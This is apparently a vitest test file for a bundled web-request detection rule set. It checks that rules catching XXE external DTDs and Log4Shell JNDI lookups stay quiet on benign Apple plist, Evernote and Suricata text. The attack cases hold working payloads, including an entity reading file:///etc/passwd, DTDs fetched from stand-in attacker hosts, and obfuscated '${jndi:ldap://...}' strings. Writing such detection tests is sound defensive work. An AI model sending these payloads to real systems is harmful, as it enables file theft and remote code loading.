/**
 * Bundled rules of rev 2026-12-11f (bb29, session 29): blind benign sets 7, 11 and 12 (read) showed three rules firing on
 * what security and endpoint tools save — an Apple property list's and an Evernote note's DOCTYPE citing their published
 * DTD (9000602, 9000690), and a Suricata rule's `content:"${jndi:"` (9000804). Each still fires on its attack, a standard
 * DTD beside an attacker's included, and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, header, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();
const PLIST = '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">';
const ENML = '<!DOCTYPE en-note SYSTEM "http://xml.evernote.com/pub/enml2.dtd">';

const CASES: RuleCase[] = [
  [9000690, 'block', 'an external DTD from an address', xml('<?xml version="1.0"?><!DOCTYPE en-note SYSTEM "http://203.0.113.7/enml2.dtd"><en-note/>'), xml(`<?xml version="1.0"?>${ENML}<en-note><div>Buy milk</div></en-note>`)],
  [9000690, 'block', 'an external DTD on a host named like a standards body', xml('<!DOCTYPE r SYSTEM "http://www.w3.org.evil.example/x.dtd"><r/>'), xml('<!DOCTYPE html SYSTEM "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>')],
  [9000690, 'block', "an attacker's DTD after a standard one quoted in a comment", xml(`<!-- ${ENML} --><!DOCTYPE r SYSTEM "http://203.0.113.7/x.dtd"><r/>`), xml(`${ENML}<en-note/>`)],
  [9000602, 'suspicious', 'a public identifier with an attacker\'s DTD', xml('<!DOCTYPE r PUBLIC "-//A//B" "http://oast.example/x.dtd"><r/>'), xml(`<?xml version="1.0" encoding="UTF-8"?>\n${PLIST}\n<plist version="1.0"><dict/></plist>`)],
  [9000602, 'suspicious', 'a standard DTD with an internal subset', xml('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><plist>&x;</plist>'), xml(`${PLIST}<plist/>`)],
  [9000602, 'suspicious', 'an internal subset', xml('<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'), json(JSON.stringify({ profile: `${PLIST}<plist/>` }))],
  [9000804, 'block', 'a JNDI lookup in a header', header('X-Api-Version', '${jndi:ldap://x.test/a}'), header('X-Api-Version', '2.1')],
  [9000804, 'block', 'a JNDI lookup with a nested protocol', form('q=%24%7Bjndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2Fx.test%2Fa%7D'), form('rule=content%3A%22%24%7Bjndi%3A%22%3B+nocase%3B')],
  [9000804, 'block', 'a JNDI lookup beside a rule quoting one', json(JSON.stringify({ rule: 'content:"${jndi:"; nocase;', x: '${jndi:rmi://x.test/a}' })), json(JSON.stringify({ rule: 'alert http any any -> any any (msg:"Log4Shell"; http.header; content:"${jndi:"; nocase; sid:9100012;)' }))],
];

describe('bundled rules of rev 2026-12-11f: standard DTDs, a rule quoting ${jndi:', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
